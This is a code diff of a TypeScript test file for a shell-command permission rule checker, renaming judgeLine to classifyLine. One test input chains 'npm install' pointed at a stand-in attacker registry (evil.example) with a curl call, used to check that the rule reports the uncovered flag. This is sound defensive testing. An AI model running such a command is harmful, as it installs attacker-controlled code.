@@ -1,6 +1,6 @@
 import { expect, test } from 'bun:test';
 import { reasonsBeyond } from './beyond-rule.ts';
-import { judgeLine } from './judge-line.ts';
+import { classifyLine } from './classify-line.ts';
 import { covers } from './rules.ts';
 
 const context = { home: '/home/user', project: '/home/user/project', cwd: '/home/user/project' };
@@ -8,7 +8,7 @@ const context = { home: '/home/user', project: '/home/user/project', cwd: '/home
 /** The lines of a list that a rule covers. */
 function covered(rule: string, lines: readonly string[]): readonly string[] {
   return lines.filter((line) => {
-    const { parts, class: kind } = judgeLine(line, context);
+    const { parts, class: kind } = classifyLine(line, context);
     return kind !== 'unparseable' && parts.filter(({ words }) => words.length > 0).every((part) => covers(rule, part, context));
   });
 }
@@ -141,7 +141,7 @@ test.each(Object.entries(BEYOND))('the rule "%s" covers nothing that goes elsewh
 });
 
 test('the word that a rule lacks is told', () => {
-  const reasons = (line: string) => reasonsBeyond(judgeLine(line, context).parts, ['npm install', 'curl'], context);
+  const reasons = (line: string) => reasonsBeyond(classifyLine(line, context).parts, ['npm install', 'curl'], context);
   expect(reasons('npm install --registry=https://evil.example x && curl https://a.example')).toEqual([
     'the rule "npm install" does not cover --registry=https://evil.example',
   ]);
